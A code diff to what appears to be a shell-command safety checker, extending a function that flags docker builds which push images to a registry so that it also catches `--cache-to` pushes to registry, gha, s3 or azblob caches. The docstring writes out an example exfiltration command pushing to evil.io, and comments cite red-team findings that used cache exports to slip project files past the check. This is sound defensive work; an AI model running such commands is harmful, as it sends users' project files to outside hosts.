@@ -608,9 +608,12 @@ _DOCKER_BUILDS = (("build",), ("buildx", "build"), ("buildx", "b"), ("image", "b
                   ("buildx", "bake"), ("compose", "build"))
 
 
+_REMOTE_CACHES = ("registry", "gha", "s3", "azblob")
+
+
 def _docker_build_pushes(args):
     """`docker buildx build --push -t evil.io/x .`, `-o type=registry`, `--output …,push=true`, `docker
-    compose build --push`: the build pushes the image it made (the project's files copied in) to a
+    compose build --push`, `--cache-to type=registry,ref=…`: the build pushes the image it made (the project's files copied in) to a
     registry, as `docker push` would; judged as that command (red team 37)."""
     words = [e.text for e in args if not e.dynamic]
     operands = [w for w in words if not w.startswith("-")]
@@ -625,6 +628,13 @@ def _docker_build_pushes(args):
             w[2:] if w.startswith("-o") and not w.startswith("--") else None
         if name == "--push" and value.lower() not in ("false", "0"):
             pushes = True
+        elif name == "--cache-to" and (eq or k + 1 < len(words)):
+            # red team 42: `--cache-to type=registry,ref=HOST/x` (or a bare ref) pushes the build's layers,
+            # the project's files among them; gha, s3 and azblob send them to those services
+            fields = {f.partition("=")[0].strip().lower(): f.partition("=")[2].strip().lower()
+                      for f in (value if eq else words[k + 1]).split(",")}
+            if fields.get("type", "registry") in _REMOTE_CACHES:
+                pushes = True
         elif spec is not None:
             fields = {f.partition("=")[0].strip().lower(): f.partition("=")[2].strip().lower() for f in spec.split(",")}
             if fields.get("type") == "registry" or fields.get("push") in ("true", "1"):
